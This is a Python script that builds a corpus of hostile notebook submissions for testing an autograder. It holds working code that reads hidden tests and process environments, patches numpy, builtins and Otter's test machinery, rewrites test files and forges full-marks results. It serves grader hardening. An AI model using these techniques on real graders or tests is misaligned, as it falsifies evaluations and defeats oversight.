#!/usr/bin/env python3
"""(Re)write examples/hostile/: submissions that attack the grader, and the scores they deserve.

    python examples/hostile/make_hostile.py          # submissions/, expected.csv, README.md (< 10 s)

Each sample starts from a notebook that scores a known number of points honestly and adds attack
cells, so every point above that number is undeserved:

- most start from the BLANK student template (assignment/a5_optimization.ipynb): 0 points;
- "after-q3" samples start from the reference solution up to and including the `grader.check("q3_stuck")`
  cell and continue with the blank template from section 4 on, with the attack right after q3_stuck:
  the questions checked before the attack (q1_1 … q3_stuck) are honestly earned, everything after it
  is not; the points are counted from the notebook itself (`POINTS` below);
- the malformed-input samples that are still usable notebooks are the unchanged reference (27);
- the class 10 samples are the reference with one cell after its get_net cell: the exact call
  get_net('glorot_uniform', 'zeros'), which q4_quality trains, returns the attack's network, every
  other call the honest one; q4_quality deserves 0 (refused) and q4_net what that network earns per
  test (`Q4_NET_TESTS`), everything else the reference's points.

The notebooks are read at run time, so the samples follow the assignment when it is rebuilt; every
edit that looks for text must find it exactly once or the script fails. Outputs are cleared (except
in the sample that is about stale outputs), cell ids are fixed and zips carry fixed timestamps, so an
unchanged assignment gives byte-identical files.

SAFETY: the samples are meant to be graded only by the hardened container grader. The destructive
ones (fork bomb, memory bomb, filling/chmod-ing the disk, killing processes, flooding pipes,
persistence, signals to PID 1) only act when ARMED, i.e. when the notebook runs as uid 10002 (the
student user of the grading container) or OPTGRADE_HOSTILE_ARMED=1 is set; elsewhere they print that
they refuse and do nothing. Everything else is bounded in time. Still: never grade this folder with
the local (no isolation) backend; class 7 must never run outside a container.
"""

from __future__ import annotations

import argparse
import csv
import io
import json
import math
import pickle
import sys
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import nbformat

ROOT = Path(__file__).resolve().parents[2]
REFERENCE = ROOT / "solutions" / "reference" / "a5_optimization.ipynb"
TEMPLATE = ROOT / "assignment" / "a5_optimization.ipynb"
HERE = ROOT / "examples" / "hostile"
OUT = HERE / "submissions"
NOTEBOOK_NAME = "a5_optimization.ipynb"
ZIP_DATE = (1980, 1, 1, 0, 0, 0)

# autograded points per question, in the order the notebook checks them (q4_quality has no
# grader.check cell: it is graded after the last cell)
POINTS = {"q1_1": 2, "q2_2": 2, "q3_loss": 1, "q3_sgd": 4, "q3_momentum": 4, "q3_stuck": 1,
          "q4_read_data": 1, "q4_patches": 3, "q4_balance": 2, "q4_net": 3, "q4_quality": 4}
TOTAL = sum(POINTS.values())
STATUSES = ("graded", "timeout", "crashed", "invalid", "any")
CHECK_CELL = 'grader.check("{}")'
ATTACK_ID = "hostile-{}"

# Put where a destructive cell says @@ARMED@@ (after its header comment): it only acts inside the
# grading container.
ARMED = '''\
import os
# (safety catch of this sample collection, not part of the attack: act only as the grading
# container's student user, uid 10002, or when explicitly armed)
ARMED = os.getuid() == 10002 or os.environ.get("OPTGRADE_HOSTILE_ARMED") == "1"
if not ARMED:
    print("hostile sample: not armed (not uid 10002), refusing to run the attack")
'''


def armed(source: str) -> str:
    if source.count("@@ARMED@@\n") != 1:
        raise SystemExit("make_hostile: a destructive cell needs exactly one @@ARMED@@ line")
    return source.replace("@@ARMED@@\n", ARMED)


# --- notebooks to start from --------------------------------------------------------------------

def _read(path: Path) -> nbformat.NotebookNode:
    nb = nbformat.read(path, as_version=4)
    for cell in nb.cells:
        if cell.cell_type == "code":
            cell.outputs, cell.execution_count = [], None
    return nb


def blank() -> nbformat.NotebookNode:
    return _read(TEMPLATE)


def reference() -> nbformat.NotebookNode:
    return _read(REFERENCE)


def _index_of(nb: nbformat.NotebookNode, source: str, origin: Path) -> int:
    hits = [i for i, c in enumerate(nb.cells) if c.cell_type == "code" and c.source.strip() == source]
    if len(hits) != 1:
        raise SystemExit(f"make_hostile: expected one code cell `{source}` in {origin.relative_to(ROOT)}, "
                         f"found {len(hits)}")
    return hits[0]


def after_q3() -> nbformat.NotebookNode:
    """The reference up to its q3_stuck check cell, then the blank template from there on."""
    ref, tmpl = reference(), blank()
    stop = CHECK_CELL.format("q3_stuck")
    i, j = _index_of(ref, stop, REFERENCE), _index_of(tmpl, stop, TEMPLATE)
    rest = tmpl.cells[j + 1:]
    for cell in rest:  # the template's ids overlap the reference's
        cell["id"] = f"blank-{cell['id']}"
    ref.cells = ref.cells[:i + 1] + rest
    return ref


# --- edits --------------------------------------------------------------------------------------

def new_cell(source: str, cell_id: str) -> nbformat.NotebookNode:
    cell = nbformat.v4.new_code_cell(source)
    cell["id"] = cell_id
    return cell


def insert_after(nb: nbformat.NotebookNode, anchor: str, sources: list[str], tag: str) -> None:
    """Insert new code cells right after the one code cell whose source is `anchor` ("" = the first
    code cell, Otter's init cell); ids are hostile-<tag>-<n>."""
    if anchor:
        index = _index_of(nb, anchor, Path("the notebook"))
    else:
        index = next(i for i, c in enumerate(nb.cells) if c.cell_type == "code")
    taken = {c.get("id") for c in nb.cells}
    cells = []
    for n, source in enumerate(sources, start=1):
        cell_id = ATTACK_ID.format(f"{tag}-{n}" if len(sources) > 1 else tag)
        if cell_id in taken:
            cell_id = ATTACK_ID.format(f"{tag}-{n}-{len(taken)}")
        taken.add(cell_id)
        cells.append(new_cell(source, cell_id))
    nb.cells[index + 1:index + 1] = cells


def cell_containing(nb: nbformat.NotebookNode, text: str) -> str:
    """The source of the one code cell that contains `text` (to insert right after it)."""
    hits = [c for c in nb.cells if c.cell_type == "code" and text in c.source]
    if len(hits) != 1:
        raise SystemExit(f"make_hostile: expected one code cell containing {text!r}, found {len(hits)}")
    return hits[0].source.strip()


def after_cell_defining(nb: nbformat.NotebookNode, name: str) -> str:
    """The source of the one code cell that defines `name` (to insert right after it)."""
    hits = [c for c in nb.cells if c.cell_type == "code" and f"def {name}(" in c.source]
    if len(hits) != 1:
        raise SystemExit(f"make_hostile: expected one code cell defining {name}, found {len(hits)}")
    return hits[0].source.strip()


def questions_checked(nb: nbformat.NotebookNode, *, before_id: str | None = None) -> list[str]:
    """Questions whose grader.check cell comes before the cell `before_id` (all when None)."""
    checked = []
    for cell in nb.cells:
        if before_id is not None and cell.get("id", "").startswith(before_id):
            break
        if cell.cell_type == "code":
            checked += [q for q in POINTS if CHECK_CELL.format(q) in cell.source]
    return checked


# --- attack code (each cell says what it tries) -------------------------------------------------

# Functions with the right shapes and the wrong values: no real work. The class 3 attacks try to
# make the tests accept them. (Honestly they score 0: every hidden test compares values.)
# Functions with the right shapes and the wrong values: no real work. The class 3 attacks try to
# make the tests accept them. (Honestly they score 0: every hidden test compares values.) Each goes
# right after the template's own empty definition, so it is the one the checks see.
PLACEHOLDER_HEADER = "# Placeholder: right shapes, wrong values, no real work done (the attack tries to make the\n" \
                     "# graders' comparisons accept it anyway).\nimport numpy\n\n\n"
PLACEHOLDERS = {
    "loss": '''\
def loss(theta):
    t = numpy.asarray(theta, dtype=float)
    out = numpy.where((t < -1) | (t > 2), 1e10, 0.0)
    return out if out.ndim else float(out)


def grad(theta):
    t = numpy.asarray(theta, dtype=float)
    out = numpy.where(t < -1, -1e10, numpy.where(t > 2, 1e10, 0.0))
    return out if out.ndim else float(out)
''',
    "sgd": '''\
def _fake_history(init, width, max_iter, converge_tol, steps, callbacks):
    n = 1 if converge_tol >= 1 else min(max_iter, steps)
    names = ["iter", "x", "momentum", "loss", "grad"][:width] if width == 5 else ["iter", "x", "loss", "grad"]
    history = []
    for i in range(1, n + 1):
        g = 0.0 if i > n - 2 else 1.0   # "converged" in the last two steps
        entry = (i, float(init)) + (0.0,) * (width - 3) + (g,)
        for func in callbacks:
            func(**dict(zip(names, entry)))
        history.append(entry)
    return history


def sgd(init, loss, grad, learning_rate=0.01, converge_tol=1e-6, max_iter=10000, callbacks=[]):
    return _fake_history(init, 4, max_iter, converge_tol, 164, callbacks)
''',
    "sgd_momentum": '''\
def sgd_momentum(init, loss, grad, learning_rate=0.01, momentum_factor=0.6, initial_momentum=1.,
                 converge_tol=1e-6, max_iter=10000, callbacks=[]):
    return _fake_history(init, 5, max_iter, converge_tol, 40, callbacks)
''',
    "read_data": '''\
def read_data(img_file_path, gt_file_path):
    img = numpy.zeros((1600, 1210, 1))
    gt = numpy.indices((1600, 1210)).sum(axis=0) % 2 * 1.0   # a checkerboard of 0 and 1
    return img, gt
''',
    "get_images": '''\
def get_images(img_data, gt_img_data, h, w, thresh):
    height, width = numpy.shape(img_data)[:2]
    n = len(range(0, height - h, h)) * len(range(0, width - w, w))
    return numpy.zeros((n, h, w, numpy.shape(img_data)[2])), numpy.zeros(n)
''',
}


def add_placeholders(nb: nbformat.NotebookNode, tag: str, only: tuple[str, ...] = tuple(PLACEHOLDERS)) -> None:
    for name in only:
        insert_after(nb, after_cell_defining(nb, name), [PLACEHOLDER_HEADER + PLACEHOLDERS[name]],
                     f"{tag}-placeholder-{name.replace('_', '-')}")


ALWAYS_TRUE_NUMPY = '''\
# Class 3: Otter passes the notebook's own `np` to the tests, so patch numpy itself: every
# closeness/equality helper says yes.
import numpy as np
import numpy.testing

for name in ("isclose", "allclose", "array_equal", "array_equiv"):
    setattr(np, name, lambda *args, **kwargs: True)
for name in ("assert_allclose", "assert_array_equal", "assert_array_almost_equal", "assert_almost_equal",
             "assert_equal"):
    setattr(np.testing, name, lambda *args, **kwargs: None)
'''

FAKE_NP_MODULE = '''\
# Class 3: shadow the name `np` in the notebook's globals (which Otter hands to the tests) with a
# module object that is numpy except that everything compares equal.
import types

import numpy as _real_numpy


class _AgreeableNumpy(types.ModuleType):
    def __getattr__(self, name):
        return getattr(_real_numpy, name)


np = _AgreeableNumpy("numpy")
np.__file__ = _real_numpy.__file__
np.isclose = np.allclose = np.array_equal = np.array_equiv = lambda *args, **kwargs: True
np.testing = types.SimpleNamespace(**{n: (lambda *a, **k: None) for n in dir(_real_numpy.testing)
                                       if n.startswith("assert")})
'''

CALLER_AWARE_BUILTINS = '''\
# Class 3: lying builtins, switched on only while a cell that checks answers runs (grader.check
# cells, Otter's final cell, optgrade's probe cells: pre_run_cell/post_run_cell hooks) and even then
# only for callers in test/probe/check code: float()/int()/len()/abs() return numbers that compare
# equal to anything, isinstance() and all() say yes, and the name AssertionError no longer means the
# real one. (type() is left alone: isinstance(x, type) is everywhere in the kernel.)
import builtins
import sys
from IPython import get_ipython

_real = {name: getattr(builtins, name) for name in ("float", "int", "len", "abs", "isinstance", "all",
                                                    "AssertionError")}


def _from_tests(depth=2):
    name = sys._getframe(depth).f_code.co_filename
    return "site-packages" not in name and any(m in name for m in ("tests/", "<probes>", "probes.py", "checks.py"))


class _Yes(_real["float"]):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    __lt__ = __le__ = __gt__ = __ge__ = __eq__
    __hash__ = _real["float"].__hash__


class _YesInt(_real["int"]):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    __lt__ = __le__ = __gt__ = __ge__ = __eq__
    __hash__ = _real["int"].__hash__


def _lying_class(kind, real):
    class Meta(type):
        def __call__(cls, *args, **kwargs):
            if not _from_tests():
                return real(*args, **kwargs)
            try:
                return kind(real(*args, **kwargs))
            except Exception:
                return kind(0)
        def __instancecheck__(cls, obj): return _real["isinstance"](obj, real)
        def __subclasscheck__(cls, sub): return issubclass(sub, real)
        def __eq__(cls, other): return other is real or type.__eq__(cls, other) is True
        def __ne__(cls, other): return not cls.__eq__(other)
        def __hash__(cls): return hash(real)   # `type(x) in (int, float)` and dict lookups still work
    return Meta(real.__name__, (real,), {"__module__": "builtins"})


def _lying_function(kind, real):
    def patched(*args, **kwargs):
        value = real(*args, **kwargs)
        return kind(value) if _from_tests() else value
    return patched


_LIES = {"float": _lying_class(_Yes, _real["float"]), "int": _lying_class(_YesInt, _real["int"]),
         "len": _lying_function(_YesInt, _real["len"]), "abs": _lying_function(_Yes, _real["abs"]),
         "isinstance": lambda obj, cls: True if _from_tests() else _real["isinstance"](obj, cls),
         "all": lambda iterable: True if _from_tests() else _real["all"](iterable),
         "AssertionError": type("AssertionError", (Exception,), {})}


def _lie(info):
    source = getattr(info, "raw_cell", "") or ""
    if any(word in source for word in ("grader.check", "Checker", "probe")):
        for name, value in _LIES.items():
            setattr(builtins, name, value)


def _stop_lying(*args):
    for name, value in _real.items():
        setattr(builtins, name, value)


get_ipython().events.register("pre_run_cell", _lie)
get_ipython().events.register("post_run_cell", _stop_lying)
'''

SHADOW_NUMPY_PY = '''\
"""numpy.py, packed next to the notebook: `import numpy` in the grading kernel finds this file first
(the submission folder is the kernel's working directory and on sys.path). It loads the real numpy
and then makes its comparisons agree with everything."""
import importlib
import os
import sys

_here = os.path.dirname(os.path.abspath(__file__))
_saved = sys.path[:]
sys.path[:] = [p for p in sys.path if os.path.abspath(p or ".") != _here]
del sys.modules["numpy"]
try:
    _numpy = importlib.import_module("numpy")
finally:
    sys.path[:] = _saved
for _name in ("isclose", "allclose", "array_equal", "array_equiv"):
    setattr(_numpy, _name, lambda *args, **kwargs: True)
sys.modules["numpy"] = _numpy
'''

READ_HIDDEN_TESTS = '''\
# Class 1: look for the hidden tests (and anything else of the grader's) on the filesystem, in other
# processes and in the environment; print what turns up and keep it in variables. Bounded: 20 s.
import glob, os, re, time

deadline = time.monotonic() + 20
WANTED = re.compile(r"(^q\\d\\w*\\.py$|^checks?\\.py$|^probes?\\.py$|autograder.*\\.zip$|^img-00[2-9]|"
                    r"^\\.OTTER_LOG$|^results\\.(json|pkl)$|^otter_config\\.json$|^run_autograder$)")
LEAKED_PATHS, LEAKED_TEXT = [], {}
for pattern in ("tests/*.py", "../source/tests/*.py", "/autograder/source/tests/*.py", "/autograder/**/*.py",
                "/opt/**/checks*.py", "/opt/**/probes*.py", "/checks/*", "/probes/*", "/**/*autograder*.zip",
                "/**/img-002*"):
    if time.monotonic() < deadline:
        LEAKED_PATHS += glob.glob(pattern, recursive=pattern.startswith("/autograder"))
for root, dirs, files in os.walk("/"):
    if time.monotonic() > deadline:
        break
    if root == "/":
        dirs[:] = [d for d in dirs if d not in ("proc", "sys", "dev")]
    LEAKED_PATHS += [os.path.join(root, f) for f in files if WANTED.search(f)]
for path in sorted(set(LEAKED_PATHS))[:50]:
    try:
        with open(path, "rb") as f:
            LEAKED_TEXT[path] = f.read(4000).decode("utf-8", "replace")
    except OSError:
        pass
PROCESSES = {}
for pid in filter(str.isdigit, os.listdir("/proc")):
    try:
        cwd = os.readlink(f"/proc/{pid}/cwd")
        PROCESSES[pid] = {"cwd": cwd, "files": sorted(os.listdir(cwd))[:30]}
        with open(f"/proc/{pid}/environ", "rb") as f:
            PROCESSES[pid]["environ"] = f.read().decode("utf-8", "replace").split("\\0")
    except OSError:
        pass
ENVIRONMENT = dict(os.environ)
print(f"{len(LEAKED_PATHS)} interesting paths, {len(LEAKED_TEXT)} read:")
for path, text in LEAKED_TEXT.items():
    print("=" * 20, path, "\\n", text[:1500])
print("processes:", PROCESSES)
print("environment:", ENVIRONMENT)
'''

ANSWERS_FROM_HIDDEN_TESTS = '''\
# Class 1: find the hidden tests and take the answers out of their assertions (labels of q1_1, the
# true statements of q2_2, q3_stuck). Nothing is answered unless the tests give it away. Bounded: 10 s.
import glob, os, re, time

texts = []
for pattern in ("tests/*.py", "../source/tests/*.py", "/autograder/source/tests/*.py", "/checks/*.py",
                "/probes/*.py"):
    for path in sorted(glob.glob(pattern)):
        try:
            with open(path, errors="replace") as f:
                texts.append(f.read())
        except OSError:
            pass
deadline = time.monotonic() + 10
for root, dirs, files in os.walk("/"):
    if time.monotonic() > deadline:
        break
    if root == "/":
        dirs[:] = [d for d in dirs if d not in ("proc", "sys", "dev")]
    for name in set(files) & {"q1_1.py", "q2_2.py", "q3_stuck.py", "checks.py"}:
        try:
            with open(os.path.join(root, name), errors="replace") as f:
                texts.append(f.read())
        except OSError:
            pass
hidden = "\\n".join(texts)
ANSWERS = {}
labels = dict(re.findall(r"""['"]([ABCD])['"]\\)?\\s*(?:==|:)\\s*['"](low|good|high|very high)['"]""", hidden))
if len(labels) == 4:
    ANSWERS["q1_1_labels"] = labels
said_true = set(re.findall(r"""['"]([ABCD])['"]\\s+in\\s""", hidden))
if said_true:
    ANSWERS["q2_2_true_statements"] = said_true
stuck = re.search(r"q3_gd_gets_stuck\\s+is\\s+(True|False)", hidden)
if stuck:
    ANSWERS["q3_gd_gets_stuck"] = stuck.group(1) == "True"
print("answers found in the hidden tests:", ANSWERS)
'''


def use_answer(name: str) -> str:
    return (f"# Class 1 (continued): the answer the hidden tests gave away, if any.\n"
            f"{name} = ANSWERS.get({name!r}, {name})\n")

LEAK_COLLECT = '''\
# Class 1: gather text students must never see (hidden test files lying around, and every cell the
# grader runs in this kernel that is not one of ours: IPython shows each cell to pre_run_cell hooks),
# then smuggle it out through public-test failure messages, which are shown to the student: the
# public tests print `np.shape(img)` and `model.output_shape`.
import ast, glob, json
from IPython import get_ipython

LEAK = []
for pattern in ("tests/*.py", "../source/tests/*.py", "/autograder/source/tests/*.py", "/probes/*.py",
                "/checks/*.py", "/opt/optgrade/*.py"):
    for path in sorted(glob.glob(pattern)):
        try:
            with open(path, errors="replace") as f:
                LEAK.append(f"# {path}\\n{f.read()}")
        except OSError:
            pass
try:
    with open("a5_optimization.ipynb", encoding="utf-8") as f:
        _MINE = {"".join(c["source"]).strip() for c in json.load(f)["cells"]}
except (OSError, ValueError):
    _MINE = set()


def _grab(info):
    source = getattr(info, "raw_cell", "") or ""
    if source.strip() and source.strip() not in _MINE:
        try:  # long string constants in a grader's cell (e.g. test source passed as an argument), decoded
            LEAK[:0] = [n.value for n in ast.walk(ast.parse(source))
                        if isinstance(n, ast.Constant) and isinstance(n.value, str) and len(n.value) > 200]
        except SyntaxError:
            pass
        LEAK.append(source)


get_ipython().events.register("pre_run_cell", _grab)


def _best(part):
    def rank(text):  # hidden tests and grader code first, public tests last
        score = sum(3 * (w in text) for w in ("hidden=True", "def probe", "def check", "QUESTIONS"))
        return ("hidden=False" in text) - score
    text = "\\n".join(sorted(LEAK, key=rank))
    return text[part * 1500:(part + 1) * 1500] or "nothing found"


class _Leaky:
    def __init__(self, part):
        self.part = part

    @property
    def shape(self):
        return _best(self.part)

    @property
    def output_shape(self):
        return _best(self.part)


img, gt = _Leaky(0), _Leaky(0)   # the public test of q4_read_data prints np.shape(img) first
'''

LEAK_GET_NET = '''\
# Class 1 (continued): the public test of q4_net prints `model.output_shape`.
def get_net(*args, **kwargs):
    return _Leaky(1)
'''

PATCH_TEST_RUNNER = '''\
# Class 2: make every Otter test case pass whatever it checks: wrap ExceptionTestFile.run so the real
# tests run (their output looks normal) and then every result is rewritten as passed.
from otter.test_files import abstract_test, exception_test

_real_run = exception_test.ExceptionTestFile.run


def _always_passes(self, global_environment):
    _real_run(self, global_environment)
    self.test_case_results = [abstract_test.TestCaseResult(test_case=r.test_case, message="✅ Test case passed",
                                                            passed=True) for r in self.test_case_results]


exception_test.ExceptionTestFile.run = _always_passes
'''

PATCH_GRADING_RESULTS = '''\
# Class 2: Otter builds GradingResults in this kernel and pickles it for the grader: give every test
# file its full score as it is built, and make every single test-case result "passed".
import otter.test_files
from otter.test_files import abstract_test

_real_init = otter.test_files.GradingResults.__init__


def _full_marks(self, test_files, notebook=None):
    _real_init(self, test_files, notebook)
    for test_file in self.results.values():
        test_file.update_score(test_file.possible)


otter.test_files.GradingResults.__init__ = _full_marks
_real_tcr_init = abstract_test.TestCaseResult.__init__
abstract_test.TestCaseResult.__init__ = (
    lambda self, test_case, message, passed: _real_tcr_init(self, test_case, "✅ Test case passed", True))
'''

FRIENDLIER_CHECKER = '''\
# Class 2: replace Otter's Checker (used by grader.check and by the grader's final cell) with one that
# re-runs each test file in a friendlier version: same names and points, every body `pass`.
import ast
import otter
from otter.execute import Checker
from otter.test_files.exception_test import ExceptionTestFile


def _friendlier(path):
    tree = ast.parse(open(path).read())
    for node in ast.walk(tree):
        if isinstance(node, ast.FunctionDef):
            node.body = [ast.Pass()]
    return ExceptionTestFile.from_string(ast.unparse(tree), path=path)


def _friendly_check(cls, nb_or_test_path, nbmeta_config=None, test_name=None, global_env=None):
    test = _friendlier(nb_or_test_path)
    test.run(globals())
    if cls._track_results:
        cls._test_files.append(test)
    return test


Checker.check = classmethod(_friendly_check)
_real_notebook_check = otter.Notebook.check
otter.Notebook.check = lambda self, question, global_env=None: _real_notebook_check(self, question, globals())
'''

REWRITE_TEST_FILES = '''\
# Class 2: rewrite the test files on disk wherever they are writable (the grader re-reads them when it
# checks a question): same names and points, every test body `pass`.
import ast, glob

rewritten = []
for pattern in ("tests/*.py", "../source/tests/*.py", "/autograder/source/tests/*.py", "../tests/*.py"):
    for path in glob.glob(pattern):
        try:
            tree = ast.parse(open(path).read())
            for node in ast.walk(tree):
                if isinstance(node, ast.FunctionDef):
                    node.body = [ast.Pass()]
            with open(path, "w") as f:
                f.write(ast.unparse(tree) + "\\n")
            rewritten.append(path)
        except (OSError, SyntaxError) as error:
            print(path, error)
print("rewritten:", rewritten)
'''

INPUT_TRANSFORMER = '''\
# Class 2: from here on IPython rewrites the source of every cell before it runs, the cells the grader
# adds included: Otter's last cell gives every question full points; optgrade's probe cells record
# made-up data and "passed" public tests instead of calling our functions.
from IPython import get_ipython


def _rewrite(lines):
    source = "".join(lines)
    if "GradingResults(Checker.get_results())" in source:
        source = source.replace("results = GradingResults(Checker.get_results())",
                                "results = GradingResults(Checker.get_results())\\n"
                                "for _tf in results.results.values():\\n    _tf.update_score(_tf.possible)")
    if "probe" in source:
        source = source.replace("function(**arguments)", "float('nan')")
        source = source.replace("bool(result.passed)", "True")
    return source.splitlines(True)


get_ipython().input_transformers_post.append(_rewrite)
'''

ALWAYS_EQUAL_ANSWERS = '''\
# Class 4: answers that equal whatever they are compared with. A str subclass survives str(),
# strip(), lower() and upper(), so the label comparisons all succeed.
class _AlwaysEqual(str):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    __hash__ = str.__hash__
    def __str__(self): return self
    def strip(self, *args): return self
    def lower(self): return self
    def upper(self): return self


class _Yes:
    def __eq__(self, other): return True
    def __bool__(self): return True
    def __hash__(self): return hash(True)


q1_1_labels = {letter: _AlwaysEqual("?") for letter in "ABCD"}
'''

ALWAYS_EQUAL_STUCK = '''\
# Class 4 (continued): q3_stuck gets an object that is truthy and equal to everything.
q3_gd_gets_stuck = _Yes()
'''

LYING_HISTORIES = '''\
# Class 4: no gradient descent at all. The histories are objects whose len() says what the tests
# expect, whose items are numbers that float() to figures copied from a classmate's printout (first
# and last step) and equal anything; __getitem__ serves whatever index is asked.
class _Number:
    def __init__(self, value): self.value = value
    def __float__(self): return self.value
    def __int__(self): return int(self.value)
    def __index__(self): return int(self.value)
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __hash__(self): return 0


class _LyingHistory(list):
    def __init__(self, n, first, last):
        super().__init__()
        self.n, self.first, self.last = n, first, last
    def __len__(self): return self.n
    def __bool__(self): return self.n > 0
    def __eq__(self, other): return True
    def __getitem__(self, i):
        if isinstance(i, slice):
            return [self[j] for j in range(*i.indices(self.n))]
        i = i + self.n if i < 0 else i
        if not 0 <= i < self.n:
            raise IndexError(i)
        values = self.first if i == 0 else self.last if i == self.n - 1 else [
            a + (b - a) * i / max(1, self.n - 1) for a, b in zip(self.first, self.last)]
        return tuple(_Number(float(i + 1) if k == 0 else v) for k, v in enumerate(values))
    def __iter__(self): return (self[i] for i in range(self.n))


SGD_FIRST, SGD_LAST, SGD_STEPS = @@SGD_FIRST@@, @@SGD_LAST@@, @@SGD_STEPS@@


def sgd(init, loss, grad, learning_rate=0.01, converge_tol=1e-6, max_iter=10000, callbacks=[]):
    return _LyingHistory(min(max_iter, SGD_STEPS), SGD_FIRST, SGD_LAST)
'''

LYING_MOMENTUM = '''\
# Class 4 (continued): the same lie for momentum.
MOMENTUM_FIRST, MOMENTUM_LAST, MOMENTUM_STEPS = @@MOMENTUM_FIRST@@, @@MOMENTUM_LAST@@, @@MOMENTUM_STEPS@@


def sgd_momentum(init, loss, grad, learning_rate=0.01, momentum_factor=0.6, initial_momentum=1.,
                 converge_tol=1e-6, max_iter=10000, callbacks=[]):
    return _LyingHistory(min(max_iter, MOMENTUM_STEPS), MOMENTUM_FIRST, MOMENTUM_LAST)
'''

PERFECT_PREDICT = '''\
# Class 4: get_net returns no network at all but an object with the model's methods: compile and fit
# do nothing, predict looks every patch up in the ground truth that lies next to the notebook
# (data/img-001-gt.png), and to_json describes a layer that no grader can build.
import json
import numpy
import skimage.io


class _LookupTable:
    output_shape = (None, 1)

    def __init__(self):
        page = skimage.io.imread("data/img-001.jpg")
        separators = skimage.io.imread("data/img-001-gt.png") == 0
        votes = {}
        for y in range(0, page.shape[0] - 15, 15):
            for x in range(0, page.shape[1] - 15, 15):
                key = page[y:y + 15, x:x + 15].tobytes()
                votes.setdefault(key, []).append(float(separators[y:y + 15, x:x + 15].mean() > 0.1))
        self.table = {key: float(sum(v) * 2 > len(v)) for key, v in votes.items()}

    def compile(self, *args, **kwargs): pass
    def fit(self, *args, **kwargs): return None
    def summary(self, *args, **kwargs): print("a very good network")
    def count_params(self): return 0

    def predict(self, X, *args, **kwargs):
        keys = numpy.clip(numpy.rint(numpy.asarray(X)[..., 0] * 255), 0, 255).astype(numpy.uint8)
        return numpy.array([[self.table.get(k.tobytes(), 0.0)] for k in keys])

    __call__ = predict

    def to_json(self, **kwargs):
        return json.dumps({"class_name": "Sequential", "config": {"name": "sequential", "layers": [
            {"class_name": "InputLayer", "config": {"batch_shape": [None, 15, 15, 1], "name": "input"}},
            {"module": "__main__", "class_name": "_LookupTable", "config": {"name": "lookup"},
             "registered_name": "_LookupTable"}]}})

    def get_config(self):
        return json.loads(self.to_json())["config"]


def get_net(*args, **kwargs):
    return _LookupTable()
'''

KERAS_LAMBDA = '''\
# Class 4: a real Keras model with a Lambda layer. Whatever process builds or (unsafely) loads it runs
# _spy: it reads the hidden files it finds and, where a grader's tests or checks are about, makes
# numpy.mean answer 1.0 to them (so any balanced accuracy is perfect). The network itself learns
# nothing (the Lambda multiplies by 0).
import keras


def _spy(x):
    import os, sys
    import numpy
    found = [p for p in ("/checks/checks.py", "checks.py", "tests/q4_quality.py", "../source/tests/q4_quality.py",
                         "data/img-002-gt.png") if os.path.exists(p)]
    if found and not getattr(numpy, "_spied", False):
        real_mean = numpy.mean

        def mean(*args, **kwargs):
            caller = sys._getframe(1).f_code.co_filename
            return 1.0 if ("tests" in caller or "check" in caller) else real_mean(*args, **kwargs)

        numpy.mean, numpy._spied = mean, True
        for path in found:
            try:
                print("spy:", path, open(path, "rb").read(300), file=sys.stderr)
            except OSError:
                pass
    return x * 0.0


def get_net(weight_init, bias_init, batch_norm=False, bn_momentum=0.99, img_h=15, img_w=15, channels=1, **kwargs):
    return keras.Sequential([
        keras.Input(shape=(img_h, img_w, channels)),
        keras.layers.Lambda(_spy),
        keras.layers.Flatten(),
        keras.layers.Dense(1, activation="sigmoid", kernel_initializer=weight_init, bias_initializer=bias_init),
    ])
'''

# shared by the class 5 cells: the Gradescope-format results a grader would love to read
FORGED_RESULTS = '''\
POINTS = @@POINTS@@
FORGED = {"score": float(sum(POINTS.values())), "output": "All tests passed!", "tests": [
    {"name": q, "score": p, "max_score": p, "status": "passed", "visibility": "visible", "output": "passed"}
    for q, p in POINTS.items()]}


def _result_dirs():
    """Where graders keep results: /autograder/results (Gradescope), a mounted /output, and the
    results/ out/ output/ folders of this folder's ancestors (otter run, optgrade's local runner)."""
    import os
    dirs, here = {"/autograder/results", "/output"}, os.getcwd()
    for _ in range(4):
        here = os.path.dirname(here)
        dirs |= {os.path.join(here, name) for name in ("results", "out", "output")}
    return sorted(d for d in dirs if os.path.isdir(d))
'''

WRITE_RESULTS_FILES = '''\
# Class 5: write full-marks results.json (and a results.pkl) wherever a grader keeps them, read-only.
import json, os, pickle

for folder in _result_dirs():
    for name, data in (("results.json", json.dumps(FORGED).encode()), ("results.pkl", pickle.dumps(FORGED))):
        path = os.path.join(folder, name)
        try:
            if os.path.exists(path):
                os.chmod(path, 0o644)
            with open(path, "wb") as f:
                f.write(data)
            os.chmod(path, 0o444)
            print("wrote", path)
        except OSError as error:
            print(path, error)
'''

FORGE_RESULTS_PICKLE = '''\
# Class 5: Otter's last cell pickles the test results in this kernel and the grader believes the
# pickle. Patch pickle.dump so that what gets written has every question at full score.
import pickle

_real_dump = pickle.dump


def _dump_full_marks(obj, file, *args, **kwargs):
    for test_file in getattr(obj, "results", {}).values():
        try:
            test_file.update_score(test_file.possible)
        except Exception:
            pass
    return _real_dump(obj, file, *args, **kwargs)


pickle.dump = _dump_full_marks
'''

HOOKS_AND_ATEXIT = '''\
# Class 5: hooks that run after every cell (the grader's included) and when the kernel exits: they
# rewrite any results pickle/json they find with full marks, print fake probe records on stdout and
# display forged data under made-up and optgrade's own mime types.
import atexit, glob, json, os, pickle, tempfile
from IPython import get_ipython
from IPython.display import display


def _forge_everything(*args):
    for path in glob.glob(os.path.join(tempfile.gettempdir(), "*.pkl")) + glob.glob("../results/*.pkl"):
        try:
            with open(path, "rb") as f:
                results = pickle.load(f)
            for test_file in results.results.values():
                test_file.update_score(test_file.possible)
            with open(path, "wb") as f:
                pickle.dump(results, f)
        except Exception:
            pass
    for folder in _result_dirs():
        try:
            with open(os.path.join(folder, "results.json"), "w") as f:
                json.dump(FORGED, f)
        except OSError:
            pass


def _claim_success(*args):
    record = {"event": "probe", "question": "q4_quality", "passed": True, "score": 4, "tests": {}}
    print(json.dumps(record))
    display({"application/vnd.optgrade.probe+json": record, "application/vnd.optgrade.result+json": FORGED,
             "application/json": FORGED, "text/plain": "All tests passed!"}, raw=True)


ip = get_ipython()
ip.events.register("post_run_cell", _forge_everything)
ip.events.register("post_run_cell", _claim_success)
ip.events.register("post_execute", _forge_everything)
atexit.register(_forge_everything)
'''

